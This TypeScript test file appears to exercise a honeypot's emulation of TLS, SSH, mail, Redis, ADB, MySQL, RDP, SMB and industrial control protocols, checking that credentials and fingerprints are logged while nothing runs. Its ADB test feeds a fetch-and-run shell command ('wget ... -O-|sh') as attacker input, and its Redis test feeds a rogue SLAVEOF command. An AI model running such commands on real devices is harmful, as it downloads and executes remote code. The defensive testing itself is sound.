import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { describe, test } from 'node:test'
import { hex, joined, u16be, u16le, u32le } from '../bytes.ts'
import { ja4Of, readClientHello } from '../ja4.ts'
import { tcpProtocols } from '../protocols.ts'
import { talkTo } from '../talk-to.fixture.ts'
import { dnp3Crc } from './grid.ts'

const protocol = (name: string) => tcpProtocols.get(name)!
const hexText = (bytes: Uint8Array): string => Buffer.from(bytes).toString('hex')

describe('tls', () => {
  const list = (...values: readonly number[]): Uint8Array => joined(u16be(2 * values.length), u16be(...values))
  const extension = (type: number, content: Uint8Array): Uint8Array => joined(u16be(type, content.length), content)
  const sni = joined(u16be(14), Uint8Array.of(0), u16be(11), Buffer.from('example.org'))
  const empty = (...types: readonly number[]): Uint8Array[] => types.map((type) => extension(type, new Uint8Array(0)))
  // The example of JA4's own description: Chrome with GREASE.
  const extensions = joined(
    ...empty(0x1a1a, 0x0017, 0xff01), extension(0x0000, sni), ...empty(0x000a, 0x000b, 0x0023), extension(0x0010, joined(u16be(12), Uint8Array.of(2), Buffer.from('h2'), Uint8Array.of(8), Buffer.from('http/1.1'))),
    ...empty(0x0005), extension(0x000d, list(0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601)), ...empty(0x0012, 0x0033, 0x002d),
    extension(0x002b, joined(Uint8Array.of(6), u16be(0x3a3a, 0x0304, 0x0303))), ...empty(0x001b, 0x4469, 0x0015),
  )
  const body = joined(
    hex('03 03'), new Uint8Array(32), Uint8Array.of(0),
    list(0x2a2a, 0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030, 0xcca9, 0xcca8, 0xc013, 0xc014, 0x009c, 0x009d, 0x002f, 0x0035),
    hex('01 00'), u16be(extensions.length), extensions,
  )
  const handshake = joined(Uint8Array.of(1, 0), u16be(body.length), body)
  const record = joined(hex('16 03 01'), u16be(handshake.length), handshake)

  test('JA4 is that of its description', () => {
    assert.equal(ja4Of(readClientHello(handshake)!), 't13d1516h2_8daaf6152771_e5627efa2ab1')
  })

  test('a hello is kept and refused, also in pieces; anything else ends', () => {
    const { out, said, ended } = talkTo(protocol('any'), record.subarray(0, 100), record.subarray(100))
    assert.equal(hexText(out.at(-1)!), '15030300020228')
    assert.deepEqual([said.protocol, said.facts['tls.server_name'], said.facts['tls.alpn'], ended], ['tls', 'example.org', 'h2 | http/1.1', true])
    assert.ok(talkTo(protocol('tls'), 'GET / HTTP/1.0\r\n\r\n').ended)
    for (let length = 0; length < handshake.length; length++) assert.equal(readClientHello(handshake.subarray(0, length)), undefined)
  })
})

test('ssh: version and offer of algorithms', () => {
  const names = ['kex-a', 'key', 'c2s', 's2c', 'mac', 'mac', 'none', 'none', '', '']
  const payload = joined(Uint8Array.of(20), new Uint8Array(16), ...names.map((name) => joined(u16be(0, name.length), Buffer.from(name))), new Uint8Array(5))
  const packet = (content: Uint8Array): Uint8Array => joined(u16be(0, content.length + 5), Uint8Array.of(4), content, new Uint8Array(4))
  const { out, said, ended } = talkTo(protocol('ssh'), 'SSH-2.0-Go\r\n', packet(payload), packet(Uint8Array.of(30)))
  assert.match(out[0]!.toString(), /^SSH-2\.0-OpenSSH_\S+ \S+\r\n$/)
  assert.deepEqual([out[1]![5], out[1]!.readUInt32BE(0) % 8], [20, 4])
  assert.equal(out[3]![5], 1)
  assert.deepEqual(said.facts, { 'ssh.client_version': 'SSH-2.0-Go', 'ssh.hassh': createHash('md5').update('kex-a;c2s;mac;none').digest('hex') })
  assert.ok(ended)
  assert.ok(talkTo(protocol('ssh'), 'hello\n').ended)
})

test('mail and files: credentials are taken, nothing is relayed', () => {
  const mail = talkTo(protocol('smtp'), 'EHLO x\r\nAUTH PLAIN AHUAcA==\r\nAUTH LOGIN\r\nYQ==\r\nYg==\r\nMAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\nQUIT\r\n')
  assert.deepEqual(mail.said.logins, [{ user: 'u', password: 'p' }, { user: 'a', password: 'b' }])
  assert.match(mail.out[1]!.toString(), /554 5\.7\.1 Relay access denied\r\n503 /)
  assert.equal(mail.said.facts['smtp.rcpt'], 'TO:<c@d>')
  const files = talkTo(protocol('ftp'), 'USER a\r\nPASS b\r\nPORT 192,0,2,1,0,80\r\nQUIT\r\n')
  assert.match(files.out[1]!.toString(), /^331 .*\r\n530 .*\r\n530 .*\r\n221 /)
  assert.deepEqual(files.said.logins, [{ user: 'a', password: 'b' }])
})

test('redis: arrays and lines, in pieces, and what cannot be one', () => {
  const { out, said } = talkTo(protocol('redis'), '*1\r\n$4\r\nPI', 'NG\r\nAUTH pw\r\n*3\r\n$7\r\nSLAVEOF\r\n$9\r\n192.0.2.1\r\n$2\r\n21\r\n')
  assert.deepEqual(out.slice(1).join(''), '+PONG\r\n-WRONGPASS invalid username-password pair or user is disabled.\r\n+OK\r\n')
  assert.deepEqual([said.logins[0]!.password, said.facts['redis.master']], ['pw', '192.0.2.1:21'])
  for (const wrong of ['*99999999\r\n', '*1\r\n$999999\r\n', '*x\r\n', '*1\r\n+a\r\n']) assert.ok(talkTo(protocol('redis'), wrong).ended, wrong)
})

test('adb: connects, opens, runs nothing', () => {
  const message = (command: string, data: string): Uint8Array => {
    const code = Buffer.from(command).readUInt32LE(0)
    return joined(u32le(code, 7, 0, data.length, 0, code ^ 0xffff_ffff), Buffer.from(data))
  }
  const { out, said } = talkTo(protocol('adb'), message('CNXN', 'host::\0'), message('OPEN', 'shell:cd /data;wget http://198.51.100.3/a -O-|sh\0'))
  assert.match(out[1]!.toString('latin1'), /^CNXN.*device::ro\.product/s)
  assert.deepEqual([out[2]!.toString('latin1', 0, 4), out[2]!.readUInt32LE(8), out[2]!.toString('latin1', 24, 28)], ['OKAY', 7, 'CLSE'])
  assert.deepEqual(said.urls, ['http://198.51.100.3/a'])
})

test('mysql: the name is learnt, the door stays closed', () => {
  const payload = joined(u32le(0x000f_a285, 0x100_0000), Uint8Array.of(33), new Uint8Array(23), Buffer.from('root\0\0mysql_native_password\0'))
  const { out, said, ended } = talkTo(protocol('mysql'), joined(u32le(payload.length | (1 << 24)), payload))
  assert.deepEqual([out[0]![4], out[0]!.readUIntLE(0, 3) + 4], [10, out[0]!.length])
  assert.equal(out[1]!.readUInt16LE(5), 1045)
  assert.deepEqual([said.logins[0]!.user, said.facts['mysql.plugin'], ended], ['root', 'mysql_native_password', true])
})

test('rdp: the cookie, then TLS', () => {
  const request = joined(hex('03 00 00 2a 25 e0 00 00 00 00 00'), Buffer.from('Cookie: mstshash=hello\r\n').subarray(0, 23), hex('0a'), hex('01 00 08 00 03 00 00 00'))
  request[3] = request.length
  const { out, said } = talkTo(protocol('any'), request, hex('16 03 01 00 01 01'))
  assert.equal(hexText(out[1]!), '030000130ed000001234000200080001000000')
  assert.deepEqual([said.protocol, said.facts['rdp.cookie'], said.facts['rdp.protocols']], ['rdp', 'hello', 'tls,credssp'])
  assert.equal(hexText(out[2]!), '15030300020228')
})

test('smb 1: the dialects of an old worm', () => {
  const body = Buffer.from('\0\x0c\0\x02NT LM 0.12\0', 'latin1')
  const packet = joined(hex('ff 53 4d 42 72'), new Uint8Array(27), body)
  const { out, said } = talkTo(protocol('smb'), joined(u16be(0, packet.length), packet), joined(u16be(0, 35), hex('ff 53 4d 42 32'), new Uint8Array(30)))
  assert.equal(out[1]![36], 17)
  assert.equal(out[2]!.readUInt32LE(9), 0xc000_0022)
  assert.deepEqual([said.facts['smb.dialects'], said.facts['smb1.command']], ['NT LM 0.12', '50'])
})

test('mqtt: who connects, and what he asks for', () => {
  const connect = hex('10 18 00 04 4d51 5454 04 c2 003c 0002 6964 0004 75736572 0002 7077')
  const { out, said } = talkTo(protocol('any'), connect, hex('82 08 0001 0003 612f23 00'), hex('c0 00'), hex('e0 00'))
  assert.deepEqual(out.slice(1, 4).map(hexText), ['20020000', '9003000100', 'd000'])
  assert.deepEqual([said.logins, said.facts['mqtt.subscribe'], said.protocol], [[{ user: 'user', password: 'pw' }], 'a/#', 'mqtt'])
})

describe('control systems', () => {
  const modbus = (...pdus: readonly string[]): readonly string[] =>
    talkTo(protocol('modbus'), ...pdus.map((pdu) => joined(hex('0001 0000'), u16be(hex(pdu).length + 1), Uint8Array.of(1), hex(pdu)))).out.slice(1).map((one) => hexText(one.subarray(7)))

  test('modbus: reads are zero, what writes is an unknown function, the rest is an exception of the specification', () => {
    assert.deepEqual(modbus('03 0000 0002', '01 0000 0009', '03 0000 007e', '04 03e7 0002', '03 0000'), ['030400000000', '01020000', '8303', '8402', '8303'])
    assert.deepEqual(modbus('05 0000 ff00', '06 0000 0001', '0f 0000 0001 01 01', '10 0000 0001 02 0001', '17 00', '5a 00'), ['8501', '8601', '8f01', '9001', '9701', 'da01'])
    assert.match(Buffer.from(modbus('2b 0e 01 00')[0]!, 'hex').toString('latin1'), /Generic Controls.*PLC-200.*2\.4$/s)
    assert.deepEqual(modbus('2b 0e 05 00', '2b 0e 04 63'), ['ab03', 'ab02'])
    assert.ok(talkTo(protocol('modbus'), hex('0001 0001 0002 0101')).ended)
  })

  test('s7comm: connection, set-up, no writing', () => {
    const connect = hex('0300 0016 11e0 0000 0014 00 c102 0100 c202 0102 c001 0a')
    const setup = hex('0300 0019 02f0 80 3201 0000 0001 0008 0000 f000 0001 0001 01e0')
    const write = hex('0300 0013 02f0 80 3201 0000 0002 0002 0000 0501')
    const { out, said } = talkTo(protocol('any'), connect, setup, write)
    assert.equal(hexText(out[1]!), '0300001611d00014000100c1020100c2020102c0010a')
    assert.equal(hexText(out[2]!.subarray(7)), '320300000001000800000000f0000001000100f0')
    assert.equal(hexText(out[3]!.subarray(7)), '320300000002000000008104')
    assert.deepEqual([said.protocol, said.facts['s7.function'], said.facts['s7.destination_tsap']], ['s7comm', '0xf0 | 0x5', '0102'])
  })

  test('ethernet/ip: identity without an address', () => {
    const request = joined(u16le(0x63, 0), new Uint8Array(20))
    const { out, said } = talkTo(protocol('enip'), request)
    assert.equal(out[1]!.readUInt16LE(2) + 24, out[1]!.length)
    assert.equal(hexText(out[1]!.subarray(36, 40)), '00000000')
    assert.equal(said.facts['enip.command'], '0x0063')
    assert.match(out[1]!.toString('latin1'), /PLC-200/)
  })

  test('dnp3: status of the link', () => {
    // Requests as scanners send them, with the CRC of the specification.
    assert.equal(dnp3Crc(hex('0564 05c9 0000 0000')), 0x4c36)
    const { out, said } = talkTo(protocol('dnp3'), hex('0564 05c9 0000 0000 364c'))
    assert.equal(hexText(out[1]!.subarray(0, 8)), '0564050b00000000')
    assert.equal(said.facts['dnp3.function'], 'link status')
    assert.ok(talkTo(protocol('dnp3'), hex('0564 05c9 0000 0000 0000')).ended)
  })

  test('iec 104: starts, tests, refuses', () => {
    const { out, said } = talkTo(protocol('any'), hex('6804 0700 0000'), hex('6804 4300 0000'), hex('680e 0000 0000 6401 0600 0100 0000 0014'))
    assert.deepEqual(out.slice(1).map(hexText), ['68040b000000', '680483000000', '680e0000020064014700010000000014'])
    assert.deepEqual([said.facts['iec104.frames'], said.facts['iec104.type'], said.facts['iec104.address']], ['STARTDT | TESTFR', '100', '1'])
  })
})
